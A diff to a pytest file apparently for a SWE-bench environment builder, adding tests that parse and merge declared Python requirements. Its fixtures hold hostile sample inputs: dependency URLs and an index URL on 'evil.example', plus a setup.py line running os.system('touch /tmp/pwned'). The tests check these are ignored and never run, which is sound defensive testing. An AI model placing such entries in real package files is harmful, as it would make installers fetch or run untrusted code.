@@ -10,6 +10,7 @@ import pytest
 
 import _swebench_fixture as fx
 from deepgym_envs.cli import main
+from deepgym_envs.swebench_envs import declared_requirements, merge_declared
 from deepgym_envs.tasks import load_tasks
 
 SIX = ["pytest==7.4.4", "six==1.16.0"]
@@ -39,7 +40,8 @@ def test_a_rows_own_python_env_wins_over_the_spec_table(mirrors, tmp_path, capsy
     assert rc == 0, report
     envs = _envs(tmp_path / "set")
     # The keys the row gives replace the spec's; the ones it leaves out (pythonpath) stay.
-    assert envs["benjaminp__six-1"] == {"requirements": SIX, "pythonpath": ["."], "python": "3.11"}
+    assert envs["benjaminp__six-1"] == {"requirements": SIX, "pythonpath": ["."], "python": "3.11",
+                                        "install_project": True}
     assert envs["benjaminp__six-2"]["requirements"] == []  # no python_env: the (generic) spec's
     notes = {r["instance_id"]: r["reason"] for r in report["rows"]}
     assert notes["benjaminp__six-1"] == "python_env from the row"
@@ -100,3 +102,61 @@ def test_a_malformed_overrides_file_names_the_file_and_the_key(mirrors, tmp_path
     assert rc != 0
     text = err.out + err.err
     assert str(overrides) in text and "benjaminp/six" in text and "not pinned" in text
+
+
+# -- the environment set-up commit's declared requirements -----------------------------------------
+
+def test_declared_requirements_are_read_from_each_kind_of_file_never_run():
+    files = {
+        "setup.cfg": "[options]\ninstall_requires =\n    astroid>=2.12.2,<=2.14.0-dev0\n    dill>=0.2\n",
+        "pyproject.toml": '[project]\ndependencies = ["tomlkit>=0.10.1", "evil @ https://evil.example/e.tgz"]\n',
+        "setup.py": 'import os\nREQS = ["isort>=4.2.5,<6", "../local"]\nos.system("touch /tmp/pwned")\n'
+                    "setup(name='x', install_requires=REQS)\n",
+        "requirements.txt": "-e .\n--index-url https://evil.example\nplatformdirs>=2.2.0  # comment\n/abs/path\n",
+    }
+    assert declared_requirements(files.get) == ["astroid<=2.14.0-dev0,>=2.12.2", "dill>=0.2", "tomlkit>=0.10.1",
+                                                "isort<6,>=4.2.5", "platformdirs>=2.2.0"]
+    assert declared_requirements({}.get) == []
+
+
+def test_the_tables_pins_win_unless_the_project_excludes_them():
+    pins = ["pytest==7.4.4", "astroid==2.11.7", "dill==0.3.7"]
+    declared = ["astroid<=2.14.0-dev0,>=2.12.2", "dill>=0.2", "tomli>=1.1.0; python_version < '3.11'",
+                "typing-extensions>=3.10; python_version < '3.10'", "colorama; sys_platform == 'win32'"]
+    kept, ranges, replaced = merge_declared(pins, declared, "3.10")
+    assert kept == ["pytest==7.4.4", "dill==0.3.7"]
+    assert ranges == ["astroid<=2.14.0-dev0,>=2.12.2", "tomli>=1.1.0"]
+    assert replaced == ["astroid==2.11.7"]
+
+
+def _pylint_mirror(mirrors: Path, setup_cfg: str) -> dict[str, str]:
+    repo = mirrors / "pylint-dev__pylint"
+    repo.mkdir(parents=True)
+    (repo / "pylint").mkdir()
+    (repo / "pylint" / "__init__.py").write_text("")
+    (repo / "setup.cfg").write_text(setup_cfg)
+    fx._git(repo, "init", "-q")
+    fx._git(repo, "add", "-A")
+    fx._git(repo, "commit", "-q", "-m", "base")
+    head = fx._git(repo, "rev-parse", "HEAD")
+    return {"base": head, "1.16.0": head}
+
+
+def test_an_imported_row_gets_what_its_environment_setup_commit_declares(tmp_path, capsys):
+    mirrors = tmp_path / "mirrors"
+    commits = _pylint_mirror(mirrors, "[options]\ninstall_requires =\n    astroid>=2.12.2,<=2.14.0-dev0\n"
+                                      "    dill>=0.2\n    url-dep @ https://evil.example/x.tgz\n")
+    row = fx.row(commits, repo="pylint-dev/pylint", instance_id="pylint-dev__pylint-1", version="2.15",
+                 environment_setup_commit=commits["base"])
+    rows = fx.write_rows(tmp_path / "rows.jsonl", row,
+                         {**row, "instance_id": "pylint-dev__pylint-2", "environment_setup_commit": "f" * 40})
+    rc, report = _import(rows, tmp_path / "set", mirrors, capsys)
+    assert rc == 0, report
+    envs = _envs(tmp_path / "set")
+    derived = envs["pylint-dev__pylint-1"]
+    assert derived["derived"] == ["astroid<=2.14.0-dev0,>=2.12.2"]  # dill: the table's pin satisfies it
+    assert "astroid==2.11.7" not in derived["requirements"] and "dill==0.3.7" in derived["requirements"]
+    assert "instead of the table's astroid==2.11.7" in report["rows"][0]["reason"]
+    # A set-up commit the mirror lacks: the table's pins, as before.
+    assert "derived" not in envs["pylint-dev__pylint-2"]
+    assert "astroid==2.11.7" in envs["pylint-dev__pylint-2"]["requirements"]
